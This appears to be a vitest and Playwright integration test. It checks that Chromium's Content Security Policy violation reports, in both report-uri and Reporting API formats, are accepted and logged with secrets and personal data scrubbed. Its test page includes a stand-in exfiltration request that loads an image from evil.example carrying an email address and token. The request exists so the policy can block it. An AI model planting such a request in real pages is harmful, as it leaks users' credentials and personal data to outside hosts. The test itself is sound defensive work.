import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium, type Browser, type Page } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { captureLog, type CapturedLog } from './audit/log-capture';
import { startTestApp, type TestApp } from './support/test-app';
import { TestRoutesModule } from './support/test-routes.module';

/*
 * Debian's Chromium sends its own violation reports to the real application, in both formats:
 * `report-uri` (application/csp-report) and the Reporting API (`report-to` with
 * `Reporting-Endpoints`, application/reports+json, which Chromium uses only on https pages).
 * An https front serves the test pages and passes /api/* to the API unchanged, as CloudFront
 * does; the pages take a session first, so the reports carry a live `__Host-sid` cookie.
 */

const SECRET = 'tok_5e4d3c2b1a';
const NONCE = 'dGVzdC1ub25jZS0xMjM0NQ==';

function policy(reportTo: boolean): string {
  return [
    "default-src 'self'",
    `script-src 'nonce-${NONCE}' 'strict-dynamic'`,
    "img-src 'self'",
    "connect-src 'self'",
    "object-src 'none'",
    "base-uri 'none'",
    "require-trusted-types-for 'script'",
    "trusted-types 'none'",
    'report-uri /api/csp-reports',
    ...(reportTo ? ['report-to csp'] : []),
  ].join('; ');
}

/** A page that takes a session, then loads an image from elsewhere and writes to a script sink. */
const PAGE = `<!doctype html><html><head><title>t</title></head><body>
<script nonce="${NONCE}">
fetch('/api/test/session', { method: 'POST' }).then(() => {
  const img = document.createElement('img');
  img.src = 'https://evil.example/steal/alice%40example.com?token=${SECRET}';
  document.body.append(img);
  try { document.body.innerHTML = '<p>Alice Martin</p>'; } catch {}
  document.title = 'done';
});
</script></body></html>`;

const TMP = fileURLToPath(new URL('../../../tmp/', import.meta.url));

describe('violation reports sent by Chromium', () => {
  let front: Server | undefined;
  let frontUrl = '';
  let t: TestApp | undefined;
  let log: CapturedLog;
  let browser: Browser | undefined;
  let certDir: string | undefined;
  const reportAnswers: number[] = [];

  beforeAll(async () => {
    mkdirSync(join(TMP, 'playwright'), { recursive: true });
    // Playwright's profile and artefacts stay inside the workspace.
    process.env.TMPDIR = join(TMP, 'playwright');
    certDir = mkdtempSync(join(TMP, 'csp-cert-'));
    execFileSync(
      'openssl',
      [
        'req',
        '-x509',
        '-newkey',
        'ec',
        '-pkeyopt',
        'ec_paramgen_curve:P-256',
        '-nodes',
        '-keyout',
        join(certDir, 'key.pem'),
        '-out',
        join(certDir, 'cert.pem'),
        '-days',
        '1',
        '-subj',
        '/CN=127.0.0.1',
        '-addext',
        'subjectAltName=IP:127.0.0.1',
      ],
      { stdio: 'ignore' },
    );
    let api = '';
    front = createServer(
      {
        key: readFileSync(join(certDir, 'key.pem')),
        cert: readFileSync(join(certDir, 'cert.pem')),
      },
      (req, res) => {
        if (req.url?.startsWith('/api/')) {
          const upstream = httpRequest(
            `${api}${req.url}`,
            { method: req.method, headers: req.headers },
            (answer) => {
              if (req.url === '/api/csp-reports') reportAnswers.push(answer.statusCode ?? 0);
              res.writeHead(answer.statusCode ?? 502, answer.headers);
              answer.pipe(res);
            },
          );
          req.pipe(upstream);
          return;
        }
        const reportTo = req.url?.startsWith('/reporting-api') === true;
        res.writeHead(200, {
          'content-type': 'text/html; charset=utf-8',
          'content-security-policy': policy(reportTo),
          ...(reportTo ? { 'reporting-endpoints': 'csp="/api/csp-reports"' } : {}),
        });
        res.end(PAGE);
      },
    );
    const server = front;
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    frontUrl = `https://127.0.0.1:${String((server.address() as AddressInfo).port)}`;

    log = captureLog();
    t = await startTestApp({
      logger: log.logger,
      listen: true,
      extraImports: [TestRoutesModule],
      // The front's origin is the shop's (a localhost one stays for the passkey domain).
      env: { PUBLIC_ORIGINS: `${frontUrl},http://localhost:3000` },
    });
    api = t.url;
    browser = await chromium.launch({
      executablePath: '/usr/bin/chromium',
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        // Reporting API uploads after 100 ms instead of a minute (a Chromium switch for tests).
        '--short-reporting-delay',
      ],
    });
  });

  afterAll(async () => {
    await browser?.close();
    await t?.close();
    await new Promise((resolve) => front?.close(resolve));
    if (certDir) rmSync(certDir, { recursive: true, force: true });
  });

  /** The csp.violation.reported details logged so far for a page path. */
  function eventsFor(path: string): Record<string, unknown>[] {
    return log
      .lines()
      .filter((l) => l.securityEvent === 'csp.violation.reported')
      .map((l) => l.details as Record<string, unknown>)
      .filter((d) => d.documentPath === path);
  }

  /**
   * Waits (up to 20 s) for the page's script to finish. Read through the protocol: a
   * `waitForFunction` predicate is evaluated in the page, where this CSP forbids eval.
   */
  async function titled(page: Page, title: string): Promise<void> {
    const deadline = Date.now() + 20_000;
    while ((await page.title()) !== title && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    expect(await page.title()).toBe(title);
  }

  /** Waits (up to 20 s) until both violations of a page were logged. */
  async function waitForBoth(path: string): Promise<Record<string, unknown>[]> {
    const deadline = Date.now() + 20_000;
    while (Date.now() < deadline) {
      const directives = new Set(eventsFor(path).map((d) => d.directive));
      if (directives.has('img-src') && directives.has('require-trusted-types-for')) break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    return eventsFor(path);
  }

  it.each([
    ['report-uri', '/report-uri'],
    ['reporting-api', '/reporting-api'],
  ])(
    'accepts and logs the %s reports of a real page, with its cookie, minus anything secret',
    async (format, path) => {
      const context = await browser!.newContext({ ignoreHTTPSErrors: true });
      try {
        const page = await context.newPage();
        await page.goto(`${frontUrl}${path}?token=${SECRET}#${SECRET}`);
        await titled(page, 'done');
        expect((await context.cookies()).map((c) => c.name)).toContain('__Host-sid');
        const events = await waitForBoth(path);
        expect(events).toEqual(
          expect.arrayContaining([
            expect.objectContaining({
              format,
              directive: 'img-src',
              blocked: 'url',
              blockedUrl: 'https://evil.example',
              ownDocument: true,
            }),
            expect.objectContaining({
              format,
              directive: 'require-trusted-types-for',
              blocked: 'trusted-types-sink',
              sink: 'Element.innerHTML',
            }),
          ]),
        );
      } finally {
        await context.close();
      }
      expect(reportAnswers.length).toBeGreaterThan(0);
      expect(reportAnswers.filter((status) => status !== 204)).toEqual([]);
      expect(log.text()).not.toContain(SECRET);
      expect(log.text()).not.toMatch(/alice|Alice Martin/);
    },
  );
});
